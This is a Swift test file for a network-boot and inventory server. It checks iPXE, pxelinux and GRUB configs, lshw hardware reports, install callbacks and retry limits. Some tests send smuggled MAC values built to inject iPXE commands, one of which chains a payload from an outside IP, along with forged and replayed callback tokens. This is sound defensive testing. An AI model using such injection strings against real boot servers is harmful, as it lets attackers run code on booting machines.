import DployConfig
import DployController
import DployInventory
import DployPlan
import DployRender
import DployServer
import DploySpec
import DployTestSupport
import Foundation
import Hummingbird
import HummingbirdTesting
import Testing

/// The boot and inventory server over real HTTP on loopback, with a real SQLite store.
@Suite("dploy serve over HTTP", .ownThread)
struct BootServerTests {
    static let repositoryRoot = URL(fileURLWithPath: #filePath)
        .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()

    /// A copy of the lab with its store and key in a temporary folder.
    final class Lab: @unchecked Sendable {
        let root: URL
        let reconciler: Reconciler

        /// `web01IP` replaces web-01's reserved address (198.18.0.21), so that a test's
        /// requests over loopback can come from it; `loader` replaces the debian-12
        /// profile's (web-01's) loader.
        init(web01IP: String? = nil, loader: BootLoader? = nil) throws {
            root = FileManager.default.temporaryDirectory.appendingPathComponent("dploy-serve-\(UUID().uuidString)")
            try FileManager.default.copyItem(at: BootServerTests.repositoryRoot.appendingPathComponent("examples/lab"), to: root)
            if let loader {
                let profile = root.appendingPathComponent("profiles/debian-12.yaml")
                let text = try String(contentsOf: profile, encoding: .utf8).replacingOccurrences(of: "loader: ipxe", with: "loader: \(loader)")
                try Data(text.utf8).write(to: profile)
            }
            if let web01IP {
                let rack = root.appendingPathComponent("machines/rack-r1.yaml")
                let text = try String(contentsOf: rack, encoding: .utf8).replacingOccurrences(of: "ip: 198.18.0.21\n", with: "ip: \(web01IP)\n")
                try Data(text.utf8).write(to: rack)
            }
            try? FileManager.default.removeItem(at: root.appendingPathComponent("state"))
            let path = root.appendingPathComponent("dploy.yaml").path
            reconciler = Reconciler(config: try ControllerConfig.load(path: path).get(), configPath: path)
            // As `dploy serve` does: installers and the server agree on callback tokens.
            try reconciler.makeCallbackKey()
        }

        deinit { try? FileManager.default.removeItem(at: root) }

        func server(maxAttempts: Int = 3, maxDiscovered: Int = 10_000, clock: WallClock = .system,
                    reportBudget: Int = 32 << 20) throws -> BootHTTPServer {
            BootHTTPServer(controller: try controller(maxAttempts: maxAttempts, maxDiscovered: maxDiscovered, clock: clock),
                           auth: WebAuth(token: BootServerTests.token), reportBudget: reportBudget)
        }

        /// The controller over the lab's desired state and store, as `dploy serve` makes it.
        func controller(maxAttempts: Int = 3, maxDiscovered: Int = 10_000, clock: WallClock = .system) throws -> FleetController {
            let live = LiveDesired(store: try store(), server: try reconciler.settings.server,
                                   discovery: .init(kernel: "http://198.18.0.1:8080/files/discovery/vmlinuz",
                                                    initrd: "http://198.18.0.1:8080/files/discovery/initrd.img", args: "console=ttyS0"),
                                   maxAttempts: maxAttempts, maxDiscovered: maxDiscovered)
            live.update(try reconciler.loadDesired())
            return FleetController(live: live, clock: clock)
        }

        func store() throws -> any Store { try #require(try reconciler.openStore(creating: true)) }
    }

    static let token = "test-token-0123456789"
    static let web01 = MACAddress("94:18:82:3a:5c:10")!
    static let stranger = "94:18:82:99:00:01"
    static let strangerMAC = MACAddress(stranger)!

    /// A GET as an operator's tool makes it: with the web token, unless `token` is nil.
    func get(_ client: some TestClientProtocol, _ uri: String,
             token: String? = BootServerTests.token) async throws -> (HTTPResponse.Status, String) {
        let headers: HTTPFields = token.map { [.authorization: "Bearer \($0)"] } ?? [:]
        return try await client.execute(uri: uri, method: .get, headers: headers) { ($0.status, String(buffer: $0.body)) }
    }

    /// Fetches the script `uri` serves and runs it with /bin/sh as a machine would, against
    /// this server (`DPLOY_SERVER`): its exit status and its output, stdout and stderr.
    static func runServedScript(_ client: some TestClientProtocol, _ uri: String, savedIn folder: URL, arguments: [String],
                                environment extra: [String: String] = [:]) async throws -> (Int32, String) {
        let script = try await client.execute(uri: uri, method: .get) { String(buffer: $0.body) }
        let file = folder.appendingPathComponent((uri as NSString).lastPathComponent)
        try Data(script.utf8).write(to: file)
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        process.arguments = [file.path] + arguments
        var environment = ProcessInfo.processInfo.environment
        environment["DPLOY_SERVER"] = "http://127.0.0.1:\(try #require(client.port))"
        environment.merge(extra) { $1 }
        process.environment = environment
        let output = Pipe()
        process.standardOutput = output
        process.standardError = output
        try process.run()
        // Waited for on a thread of its own: the script talks to the server under test, whose
        // handlers answer on the test's thread (`.ownThread`).
        let text = await withCheckedContinuation { continuation in
            Thread {
                let text = String(decoding: output.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
                process.waitUntilExit()
                continuation.resume(returning: text)
            }.start()
        }
        return (process.terminationStatus, text)
    }

    func post(_ client: some TestClientProtocol, _ uri: String, body: [UInt8] = [],
              contentType: String = "application/json") async throws -> (HTTPResponse.Status, String) {
        try await client.execute(uri: uri, method: .post, headers: [.contentType: contentType],
                                 body: ByteBuffer(bytes: body)) { ($0.status, String(buffer: $0.body)) }
    }

    @Test("an unknown MAC boots discovery; bad input still gets a valid iPXE script")
    func discovery() async throws {
        let lab = try Lab()
        let app = Application(router: try lab.server().router())
        try await app.test(.live) { client in
            let (status, script) = try await get(client, "/boot.ipxe?mac=\(Self.stranger)")
            #expect(status == .ok)
            #expect(script.hasPrefix("#!ipxe\n"))
            #expect(script.contains("kernel http://198.18.0.1:8080/files/discovery/vmlinuz initrd=initrd.img console=ttyS0 dploy.server=http://198.18.0.1:8080 dploy.mac=94:18:82:99:00:01"))
            for bad in ["/boot.ipxe?mac=zz:zz", "/boot.ipxe?mac=%24%7Bshell%7D%0Akernel%20evil"] {
                let (badStatus, badScript) = try await get(client, bad)
                #expect(badStatus == .ok)
                #expect(badScript.hasPrefix("#!ipxe\necho dploy: /boot.ipxe needs ?mac="))
                #expect(!badScript.contains(";"), "iPXE would split the echo into commands")
                #expect(badScript.hasSuffix("\nexit 1\n"))
                #expect(badScript.split(separator: "\n").count == 3, "nothing from the request becomes a command")
            }
            let (_, entry) = try await get(client, "/boot.ipxe")
            #expect(entry.contains("chain --autofree http://198.18.0.1:8080/boot.ipxe?mac=${net0/mac}"))
            // iPXE splits commands at ';': nothing but hex, ':' and '-' is echoed back.
            let (_, injected) = try await get(client, "/boot.ipxe?mac=x%20;%20chain%20http://203.0.113.9/p%20%23")
            #expect(!injected.contains(";") && !injected.contains("chain http"))
        }
        // Any client can ask for any MAC: strangers are written down only when they report.
        #expect(try lab.store().machine(Self.strangerMAC) == nil)
    }

    @Test("inventory: a real lshw report is stored; malformed, mistyped and oversized reports are refused and change nothing")
    func inventory() async throws {
        let lab = try Lab()
        let app = Application(router: try lab.server().router())
        let dell = Array(try Data(contentsOf: Self.repositoryRoot.appendingPathComponent(
            "Tests/DployInventoryTests/Fixtures/lshw/dell-poweredge-r6515-lshw-B.02.18.85-reformatted.json")))
        try await app.test(.live) { client in
            let (bad, badText) = try await post(client, "/v1/inventory?mac=\(Self.stranger)", body: Array("{\"foo\": 1}".utf8))
            #expect(bad == .badRequest)
            #expect(badText.contains("not lshw -json output"))
            let (typed, _) = try await post(client, "/v1/inventory?mac=\(Self.stranger)", body: dell, contentType: "text/plain")
            #expect(typed == .unsupportedMediaType)
            let (large, _) = try await post(client, "/v1/inventory?mac=\(Self.stranger)",
                                            body: [UInt8](repeating: 0x20, count: LshwReport.maximumBytes + 1))
            #expect(large == .contentTooLarge)
            let (noMAC, _) = try await post(client, "/v1/inventory?mac=nope", body: dell)
            #expect(noMAC == .badRequest)
            #expect(try lab.store().machines().isEmpty, "refused reports store nothing")

            let (stored, _) = try await post(client, "/v1/inventory?mac=\(Self.stranger)", body: dell)
            #expect(stored == .noContent)
        }
        let machine = try #require(try lab.store().machine(Self.strangerMAC))
        #expect(machine.hardware?.model?.hasPrefix("PowerEdge R6515") == true)
        #expect(machine.hardware?.memoryBytes == 274_877_906_944)
    }

    @Test("every real lshw report in the fixtures is accepted over HTTP and stored with memory, CPUs and disks")
    func everyFixture() async throws {
        let lab = try Lab()
        let app = Application(router: try lab.server().router())
        let folder = Self.repositoryRoot.appendingPathComponent("Tests/DployInventoryTests/Fixtures/lshw")
        let reports = try FileManager.default.contentsOfDirectory(atPath: folder.path).filter { $0.hasSuffix(".json") }.sorted()
        #expect(reports.count >= 4, "\(reports)")
        try await app.test(.live) { client in
            for (index, name) in reports.enumerated() {
                let body = Array(try Data(contentsOf: folder.appendingPathComponent(name)))
                let (status, text) = try await post(client, "/v1/inventory?mac=94:18:82:aa:00:\(String(format: "%02x", index))", body: body)
                #expect(status == .noContent, "\(name): \(text)")
            }
        }
        let stored = try lab.store().machines()
        #expect(stored.count == reports.count)
        for machine in stored {
            let hardware = try #require(machine.hardware)
            #expect((hardware.memoryBytes ?? 0) > 1 << 30, "\(machine.mac)")
            #expect(hardware.cpus >= 1, "\(machine.mac)")
            #expect(!hardware.disks.isEmpty, "\(machine.mac)")
        }
    }

    @Test("install, callback, local boot; forged and replayed callbacks are refused; the state survives a restart")
    func installOnce() async throws {
        let lab = try Lab(web01IP: "127.0.0.1")  // the test client boots as web-01, from its reserved address
        let key = try #require(try lab.reconciler.callbackKey)
        let app = Application(router: try lab.server().router())
        try await app.test(.live) { client in
            let (_, install) = try await get(client, "/boot.ipxe?mac=94-18-82-3A-5C-10")
            #expect(install.contains("echo dploy: installing web-01 with debian-12, generation 0"))
            #expect(install.contains("url=http://198.18.0.1:8080/installers/web-01/preseed.cfg"))

            let callback = "/v1/machines/94-18-82-3a-5c-10/installed?generation=0"
            let (forged, _) = try await post(client, callback + "&token=" + String(repeating: "0", count: 64))
            #expect(forged == .forbidden)
            let (otherMachine, _) = try await post(client, callback + "&token=" + key.token(mac: Self.strangerMAC, generation: 0))
            #expect(otherMachine == .forbidden)
            #expect(try lab.store().machine(Self.web01)?.state == .installing)

            // A generation git does not ask for is refused even with a valid token.
            let (stale, _) = try await post(client, "/v1/machines/94-18-82-3a-5c-10/installed?generation=7&token="
                                            + key.token(mac: Self.web01, generation: 7))
            #expect(stale == .conflict)

            let (done, _) = try await post(client, callback + "&token=" + key.token(mac: Self.web01, generation: 0))
            #expect(done == .noContent)
            let (replayed, replayText) = try await post(client, callback + "&token=" + key.token(mac: Self.web01, generation: 0))
            #expect(replayed == .conflict)
            #expect(replayText.contains("generation 0 is already installed"))

            let (_, local) = try await get(client, "/boot.ipxe?mac=94:18:82:3a:5c:10")
            #expect(local.contains("echo dploy: web-01 boots its local disk"))
        }
        // A new server on the same store: web-01 is still installed and boots local.
        let restarted = Application(router: try lab.server().router())
        try await restarted.test(.live) { client in
            let (_, local) = try await get(client, "/boot.ipxe?mac=94:18:82:3a:5c:10")
            #expect(local.contains("boots its local disk"))
        }
        #expect(try lab.store().installedGenerations()[Self.web01] == 0)
    }

    @Test("boot requests over HTTP are decided at the controller's clock: attempts count by its time, not the wall's")
    func bootDecisionsReadTheControllerClock() async throws {
        let lab = try Lab(web01IP: "127.0.0.1")
        let clock = ManualClock(Date(timeIntervalSince1970: 1_795_000_000))
        let app = Application(router: try lab.server(maxAttempts: 2, clock: clock.wallClock).router())
        try await app.test(.live) { client in
            let (_, first) = try await get(client, "/boot.ipxe?mac=94:18:82:3a:5c:10", token: nil)
            #expect(first.contains("installing web-01"))
            clock.advance(by: BootDecisions.attemptWindow + 1)
            #expect(try await get(client, "/boot.ipxe?mac=94:18:82:3a:5c:10", token: nil).1.contains("installing web-01"))
            clock.advance(by: BootDecisions.attemptWindow + 1)
            #expect(try await get(client, "/boot.ipxe?mac=94:18:82:3a:5c:10", token: nil).1.contains("boots its local disk"))
        }
        let attempts = try lab.store().installAttempts(Self.web01)
        #expect(attempts.map(\.startedAt) == [clock.now.addingTimeInterval(-2 * (BootDecisions.attemptWindow + 1)),
                                               clock.now.addingTimeInterval(-(BootDecisions.attemptWindow + 1))])
    }

    @Test("boot requests for a machine from another address than its reserved one get its script but use up no install attempt",
          .requires(.curl))
    func attemptsCountOnlyFromTheReservedAddress() async throws {
        let lab = try Lab(web01IP: "127.0.0.2")
        let clock = ManualClock(Date(timeIntervalSince1970: 1_795_000_000))
        let app = Application(router: try lab.server(maxAttempts: 2, clock: clock.wallClock).router(),
                              configuration: .init(address: .hostname("127.0.0.1", port: 0)))
        try await app.test(.live) { client in
            // An attacker on the boot network (127.0.0.1) asks for web-01's script, boot window after boot window.
            for _ in 0..<5 {
                let (status, script) = try await get(client, "/boot.ipxe?mac=94:18:82:3a:5c:10", token: nil)
                #expect(status == .ok && script.contains("installing web-01"), "\(script)")
                clock.advance(by: BootDecisions.attemptWindow + 1)
            }
            #expect(try lab.store().installAttempts(Self.web01).isEmpty)
            #expect(try lab.store().machine(Self.web01)?.state != .failed)
            // web-01 itself, from its reserved address, still gets its installer, and that boot counts.
            let port = try #require(client.port)
            let machine = try await ServerCurl.get(["--interface", "127.0.0.2", "http://127.0.0.1:\(port)/boot.ipxe?mac=94:18:82:3a:5c:10"])
            #expect(machine.contains("installing web-01"), "\(machine)")
        }
        #expect(try lab.store().installAttempts(Self.web01).map(\.startedAt) == [clock.now])
    }

    @Test("behind a proxy (boots from another address than the reserved one), the installer's callback still completes the install")
    func installThroughAProxy() async throws {
        let lab = try Lab(web01IP: "127.0.0.2")
        let key = try #require(try lab.reconciler.callbackKey)
        let app = Application(router: try lab.server().router())
        try await app.test(.live) { client in
            let (_, script) = try await get(client, "/boot.ipxe?mac=94:18:82:3a:5c:10", token: nil)
            #expect(script.contains("installing web-01"))
            #expect(try lab.store().installAttempts(Self.web01).isEmpty, "not counted: it came from 127.0.0.1")
            let callback = "/v1/machines/94-18-82-3a-5c-10/installed?generation=0&token=" + key.token(mac: Self.web01, generation: 0)
            #expect(try await post(client, callback).0 == .noContent)
            #expect(try lab.store().machine(Self.web01)?.installedGeneration == 0)
            let (_, local) = try await get(client, "/boot.ipxe?mac=94:18:82:3a:5c:10", token: nil)
            #expect(local.contains("boots its local disk"), "no reinstall loop")
            #expect(try await post(client, callback).0 == .conflict, "a replay changes nothing")
        }
        #expect(try lab.store().events(for: Self.web01, limit: 10).contains { $0.message.contains("no counted boot") })
    }

    @Test("hardware reports: once per boot window per MAC, and for a machine in git only after it booted from its reserved address",
          .requires(.curl))
    func inventoryReportsAreBounded() async throws {
        let lab = try Lab(web01IP: "127.0.0.2")
        let clock = ManualClock(Date(timeIntervalSince1970: 1_795_000_000))
        let app = Application(router: try lab.server(clock: clock.wallClock).router(),
                              configuration: .init(address: .hostname("127.0.0.1", port: 0)))
        let fixture = Self.repositoryRoot.appendingPathComponent(
            "Tests/DployInventoryTests/Fixtures/lshw/dell-poweredge-r6515-lshw-B.02.18.85-reformatted.json")
        let dell = Array(try Data(contentsOf: fixture))
        try await app.test(.live) { client in
            let port = try #require(client.port)
            // A stranger being discovered reports once; the same MAC again within the window is refused.
            #expect(try await post(client, "/v1/inventory?mac=\(Self.stranger)", body: dell).0 == .noContent)
            for _ in 0..<5 {
                #expect(try await post(client, "/v1/inventory?mac=\(Self.stranger)", body: dell).0 == .conflict)
            }
            #expect(try lab.store().events(for: Self.strangerMAC, limit: 100).count { $0.kind == "inventory" } == 1)
            clock.advance(by: BootDecisions.attemptWindow + 1)
            #expect(try await post(client, "/v1/inventory?mac=\(Self.stranger)", body: dell).0 == .noContent)

            // web-01 is in git: another host cannot overwrite its hardware, before or after it boots.
            #expect(try await post(client, "/v1/inventory?mac=94:18:82:3a:5c:10", body: dell).0 == .forbidden)
            let boot = try await ServerCurl.get(["--interface", "127.0.0.2", "http://127.0.0.1:\(port)/boot.ipxe?mac=94:18:82:3a:5c:10"])
            #expect(boot.contains("installing web-01"), "\(boot)")
            #expect(try await post(client, "/v1/inventory?mac=94:18:82:3a:5c:10", body: dell).0 == .forbidden)
            #expect(try lab.store().machine(Self.web01)?.hardware == nil)
            // From its reserved address, right after booting, its report is taken, once.
            let upload = ["--interface", "127.0.0.2", "-o", "/dev/null", "-w", "%{http_code}", "-H", "Content-Type: application/json",
                          "--data-binary", "@\(fixture.path)", "http://127.0.0.1:\(port)/v1/inventory?mac=94:18:82:3a:5c:10"]
            #expect(try await ServerCurl.get(upload) == "204")
            #expect(try await ServerCurl.get(upload) == "409")
            #expect(try lab.store().machine(Self.web01)?.hardware?.serial != nil)

            // A machine being rediscovered reports from its reserved address, not from anywhere.
            try lab.store().forgetMachine(Self.web01, reason: "test", at: clock.now)
            #expect(try await post(client, "/v1/inventory?mac=94:18:82:3a:5c:10", body: dell).0 == .forbidden)
            #expect(try lab.store().machine(Self.web01)?.state == .rediscovering)
            #expect(try await ServerCurl.get(upload) == "204")
            #expect(try lab.store().machine(Self.web01)?.state == .discovered)
        }
    }

    @Test("invented MACs stop at store.maxDiscovered; machines already held still report")
    func discoveredMachinesAreBounded() async throws {
        let lab = try Lab()
        let clock = ManualClock(Date(timeIntervalSince1970: 1_795_000_000))
        let app = Application(router: try lab.server(maxDiscovered: 3, clock: clock.wallClock).router(),
                              configuration: .init(address: .hostname("127.0.0.1", port: 0)))
        let report = Array(#"{"id": "x", "class": "system", "vendor": "QEMU", "product": "Standard PC"}"#.utf8)
        // web-01 is in git and has only booted: `discovered` in the store, but not one of the three.
        try lab.store().recordSeen(Self.web01, address: nil, at: clock.now)
        #expect(try lab.store().machine(Self.web01)?.state == .discovered)
        try await app.test(.live) { client in
            for index in 1...3 {
                #expect(try await post(client, "/v1/inventory?mac=02:00:00:00:00:0\(index)", body: report).0 == .noContent)
            }
            let refused = try await post(client, "/v1/inventory?mac=02:00:00:00:00:04", body: report)
            #expect(refused.0 == .serviceUnavailable)
            #expect(refused.1.contains("dploy holds 3 discovered machines that are not in git (store.maxDiscovered)"), "\(refused.1)")
            #expect(try lab.store().machine(MACAddress("02:00:00:00:00:04")!) == nil)
            #expect(try lab.store().macs(in: .discovered).count == 4, "three strangers and web-01")
            // One already held reports again after its window.
            clock.advance(by: BootDecisions.attemptWindow + 1)
            #expect(try await post(client, "/v1/inventory?mac=02:00:00:00:00:01", body: report).0 == .noContent)
        }
    }

    @Test("pxelinux and GRUB configs over HTTP are decided like iPXE's: attempts counted, retries bounded, then the disk")
    func everyLoaderCounts() async throws {
        // Requests come from 127.0.0.1, made web-01's reserved address: they speak for it.
        let lab = try Lab(web01IP: "127.0.0.1", loader: .pxelinux)
        let clock = ManualClock(Date(timeIntervalSince1970: 1_795_000_000))
        let app = Application(router: try lab.server(clock: clock.wallClock).router())
        try await app.test(.live) { client in
            let pxelinux = "/pxelinux.cfg/01-94-18-82-3a-5c-10", grub = "/grub/grub.cfg-01-94-18-82-3a-5c-10"
            let (status, config) = try await get(client, pxelinux, token: nil)
            #expect(status == .ok)
            #expect(config.contains("  KERNEL http://198.18.0.1:8080/files/debian-12/linux\n"), "\(config)")
            #expect(config.contains("url=http://198.18.0.1:8080/installers/web-01/preseed.cfg"))
            // The same boot asking again, or chaining another loader, is the same attempt.
            #expect(try await get(client, pxelinux, token: nil).1 == config)
            #expect(try await get(client, "/ipxe/94-18-82-3a-5c-10.ipxe", token: nil).1.contains("installing web-01"))
            #expect(try await get(client, grub, token: nil).1.contains("linux (http,198.18.0.1:8080)/files/debian-12/linux"))
            // GRUB's first config asks with $net_default_mac, which has colons.
            #expect(try await get(client, "/grub/grub.cfg-01-94:18:82:3a:5c:10", token: nil).1.contains("debian-12/linux"))
            #expect(try lab.store().installAttempts(Self.web01).count == 1)
            // Two more boots after the window use up the lab's three attempts; the next boots the disk.
            for attempt in 2...3 {
                clock.advance(by: BootDecisions.attemptWindow + 1)
                #expect(try await get(client, attempt == 2 ? grub : pxelinux, token: nil).1.contains("debian-12/linux"))
                #expect(try lab.store().installAttempts(Self.web01).count == attempt)
            }
            clock.advance(by: BootDecisions.attemptWindow + 1)
            let local = try await get(client, pxelinux, token: nil).1
            #expect(local.contains("  LOCALBOOT 0\n") && !local.contains("KERNEL"), "\(local)")
            #expect(try lab.store().machine(Self.web01)?.state == .failed)
            #expect(try await get(client, grub, token: nil).1.contains("menuentry 'dploy: local disk'"))
            // Names that name no MAC are not found, so pxelinux tries its next one.
            #expect(try await get(client, "/pxelinux.cfg/default", token: nil).0 == .notFound)
            #expect(try await get(client, "/pxelinux.cfg/C612", token: nil).0 == .notFound)
        }
    }

    @Test("the loaders are served from where Debian's packages put them, unchanged",
          .enabled(if: ["/usr/lib/ipxe/undionly.kpxe", "/usr/lib/syslinux/modules/bios/ldlinux.c32"]
                    .allSatisfy(FileManager.default.fileExists(atPath:)) || integrationRequired,
                   "the ipxe and syslinux-common packages are not installed (sudo bash .ci/setup)"))
    func loadersServed() async throws {
        let lab = try Lab()
        let app = Application(router: try lab.server().router())
        try await app.test(.live) { client in
            for (name, path) in [("undionly.kpxe", "/usr/lib/ipxe/undionly.kpxe"), ("ldlinux.c32", "/usr/lib/syslinux/modules/bios/ldlinux.c32")] {
                let served = try await client.execute(uri: "/\(name)", method: .get) { ($0.status, Data(buffer: $0.body)) }
                #expect(served.0 == .ok)
                #expect(served.1 == (try Data(contentsOf: URL(fileURLWithPath: path))), "\(name)")
            }
        }
    }

    @Test("a pxelinux install's callback ends it: the next pxelinux boot is the disk")
    func pxelinuxCallback() async throws {
        let lab = try Lab(loader: .pxelinux)
        let app = Application(router: try lab.server().router())
        try await app.test(.live) { client in
            let pxelinux = "/pxelinux.cfg/01-94-18-82-3a-5c-10"
            #expect(try await get(client, pxelinux, token: nil).1.contains("KERNEL"))
            let token = try #require(try lab.reconciler.settings.server.callbackKey).token(mac: Self.web01, generation: 0)
            #expect(try await post(client, "/v1/machines/94-18-82-3a-5c-10/installed?generation=0&token=\(token)").0 == .noContent)
            let after = try await get(client, pxelinux, token: nil).1
            #expect(after.contains("LOCALBOOT 0") && !after.contains("KERNEL"), "\(after)")
            #expect(try lab.store().machine(Self.web01)?.installedGeneration == 0)
        }
    }

    @Test("a boot from the reserved address counts when a dual-stack listener reports it as ::ffff:a.b.c.d")
    func mappedReservedAddress() throws {
        let lab = try Lab()
        let decisions = BootDecisions(desired: try lab.reconciler.loadDesired(), store: try lab.store(),
                                      server: try lab.reconciler.settings.server, discovery: nil, maxAttempts: 2)
        _ = try decisions.script(mac: "94:18:82:3a:5c:10", address: "::ffff:198.18.0.21", now: Date())
        #expect(try lab.store().installAttempts(Self.web01).count == 1, "web-01's reserved address is 198.18.0.21")
        _ = try decisions.script(mac: "94:18:82:3a:5c:10", address: "::ffff:198.18.0.99", now: Date().addingTimeInterval(700))
        #expect(try lab.store().installAttempts(Self.web01).count == 1, "another address counts nothing")
    }

    @Test("hardware reports being received at once are bounded in bytes: past the budget, 503 before the body is read",
          .requires(.curl))
    func reportBudget() async throws {
        let lab = try Lab()
        let app = Application(router: try lab.server(reportBudget: 300_000).router(),
                              configuration: .init(address: .hostname("127.0.0.1", port: 0)))
        let report = lab.root.appendingPathComponent("big.json")
        try Data(("[" + String(repeating: " ", count: 200_000) + "]").utf8).write(to: report)
        try await app.test(.live) { client in
            let port = try #require(client.port)
            // A slow upload of 200 KB holds its part of the budget while it trickles in.
            let slow = Process()
            slow.executableURL = URL(fileURLWithPath: try Tool.curl.require())
            slow.arguments = ["-s", "-o", "/dev/null", "--limit-rate", "10k", "-H", "Content-Type: application/json",
                              "--data-binary", "@\(report.path)", "http://127.0.0.1:\(port)/v1/inventory?mac=02:00:00:00:00:01"]
            try slow.run()
            defer { if slow.isRunning { kill(slow.processIdentifier, SIGKILL); slow.waitUntilExit() } }
            try await Task.sleep(for: .milliseconds(500))
            let second = try await client.execute(uri: "/v1/inventory?mac=02:00:00:00:00:02", method: .post,
                                                  headers: [.contentType: "application/json"],
                                                  body: ByteBuffer(bytes: Array(try Data(contentsOf: report)))) {
                ($0.status, $0.headers[.retryAfter], String(buffer: $0.body))
            }
            #expect(second.0 == .serviceUnavailable, "\(second.2)")
            #expect(second.1 == "5")
            #expect(second.2.contains("too many hardware reports are arriving at once"))
            // A small one still fits beside the slow one.
            let small = try await post(client, "/v1/inventory?mac=02:00:00:00:00:03",
                                       body: Array(#"{"id": "x", "class": "system", "product": "Standard PC"}"#.utf8))
            #expect(small.0 == .noContent, "\(small.1)")
        }
    }

    @Test("an install that never calls back is tried N times, then marked failed, and the machine boots local")
    func retryLimit() throws {
        let lab = try Lab()
        let decisions = BootDecisions(desired: try lab.reconciler.loadDesired(), store: try lab.store(),
                                      server: try lab.reconciler.settings.server, discovery: nil, maxAttempts: 2)
        let start = Date()
        // Requests within the attempt window are the same attempt, however many there are.
        for second in 0..<5 {
            let script = try decisions.script(mac: "94:18:82:3a:5c:10", address: nil, now: start.addingTimeInterval(Double(second)))
            #expect(script.contains("installing web-01"))
        }
        #expect(try lab.store().installAttempts(Self.web01).count == 1)
        // A boot after the window is a new attempt; after the second, the generation fails.
        let later = start.addingTimeInterval(BootDecisions.attemptWindow + 1)
        #expect(try decisions.script(mac: "94:18:82:3a:5c:10", address: nil, now: later).contains("installing web-01"))
        let muchLater = later.addingTimeInterval(BootDecisions.attemptWindow + 1)
        for offset in 0..<2 {
            let script = try decisions.script(mac: "94:18:82:3a:5c:10", address: nil, now: muchLater.addingTimeInterval(Double(offset)))
            #expect(script.contains("boots its local disk"))
        }
        let store = try lab.store()
        #expect(try store.machine(Self.web01)?.state == .failed)
        #expect(try store.installAttempts(Self.web01).count == 2)
        #expect(try store.events(for: Self.web01, limit: 1).first?.message == "generation 0: no callback after 2 install boots; booting the local disk")
    }

    @Test("the agent script reports this machine's hardware from /sys and /proc when lshw is absent",
          .requires(.curl))
    func agent() async throws {
        let lab = try Lab()
        let app = Application(router: try lab.server().router(), configuration: .init(address: .hostname("127.0.0.1", port: 0)))
        try await app.test(.live) { client in
            let (status, _) = try await get(client, "/agent.sh")
            #expect(status == .ok)
            let (exit, text) = try await Self.runServedScript(client, "/agent.sh", savedIn: lab.root, arguments: [Self.stranger],
                                                              environment: ["DPLOY_AGENT_NO_LSHW": "1"])
            #expect(exit == 0, "\(text)")
        }
        let hardware = try #require(try lab.store().machine(Self.strangerMAC)?.hardware)
        #expect(hardware.cpus == ProcessInfo.processInfo.processorCount)
        #expect((hardware.memoryBytes ?? 0) > 0)
    }

    @Test("/v1/machines shows desired and observed side by side")
    func machines() async throws {
        let lab = try Lab(web01IP: "127.0.0.1")  // the test client reports as web-01, from its reserved address
        let clock = ManualClock(Date(timeIntervalSince1970: 1_795_000_000))
        let app = Application(router: try lab.server(clock: clock.wallClock).router())
        let dell = Array(try Data(contentsOf: Self.repositoryRoot.appendingPathComponent(
            "Tests/DployInventoryTests/Fixtures/lshw/dell-poweredge-r6515-lshw-B.02.18.85-reformatted.json")))
        try await app.test(.live) { client in
            _ = try await post(client, "/v1/inventory?mac=\(Self.stranger)", body: dell)
            let (status, body) = try await get(client, "/v1/machines")
            #expect(status == .ok)
            let rows = try #require(try JSONSerialization.jsonObject(with: Data(body.utf8)) as? [[String: Any]])
            #expect(rows.count == 9)
            #expect(rows.contains { $0["mac"] as? String == Self.stranger && $0["inGit"] as? Bool == false })
            let (one, oneBody) = try await get(client, "/v1/machines/web-02")
            #expect(one == .ok)
            #expect(oneBody.contains("\"desiredGeneration\":1"))
            let (missing, _) = try await get(client, "/v1/machines/web-99")
            #expect(missing == .notFound)

            // web-01 reports itself twice; the second time a DIMM was swapped.
            let swapped = Array(String(decoding: dell, as: UTF8.self).replacingOccurrences(of: "3510CC97", with: "4410AA01").utf8)
            // Each report follows a boot (recorded as /boot.ipxe would, without starting an install).
            try lab.store().recordSeen(Self.web01, address: "127.0.0.1", at: clock.now)
            #expect(try await post(client, "/v1/inventory?mac=94-18-82-3a-5c-10", body: dell).0 == .noContent)
            clock.advance(by: BootDecisions.attemptWindow + 1)
            try lab.store().recordSeen(Self.web01, address: "127.0.0.1", at: clock.now)
            #expect(try await post(client, "/v1/inventory?mac=94-18-82-3a-5c-10", body: swapped).0 == .noContent)
            let (_, web01Body) = try await get(client, "/v1/machines/web-01")
            let web01 = try #require(try JSONSerialization.jsonObject(with: Data(web01Body.utf8)) as? [String: Any])
            let conditions = try #require(web01["conditions"] as? [[String: Any]])
            #expect(conditions.map { $0["type"] as? String } == ["Ready", "Installed", "PowerInSync", "FirmwareInSync", "HardwareChanged"])
            let changed = try #require(conditions.last)
            #expect(changed["status"] as? String == "True" && changed["reason"] as? String == "hardwareChanged")
            #expect((changed["message"] as? String)?.contains("DIMM A3 replaced") == true && changed["observedAt"] is String)
            #expect(conditions.first?["status"] as? String == "False" && conditions.first?["reason"] as? String == "neverInstalled")
        }
    }
}

/// curl from a chosen source address on loopback: what a machine with that address sees.
enum ServerCurl {
    /// Waited for on a thread of its own, as `runServedScript` does: the server under test
    /// answers on the test's thread (`.ownThread`), which must not be held.
    static func get(_ arguments: [String]) async throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/curl")
        process.arguments = ["-s", "--max-time", "30"] + arguments
        let out = Pipe()
        process.standardOutput = out
        try process.run()
        return await withCheckedContinuation { continuation in
            Thread {
                let data = out.fileHandleForReading.readDataToEndOfFile()
                process.waitUntilExit()
                continuation.resume(returning: String(decoding: data, as: UTF8.self))
            }.start()
        }
    }
}
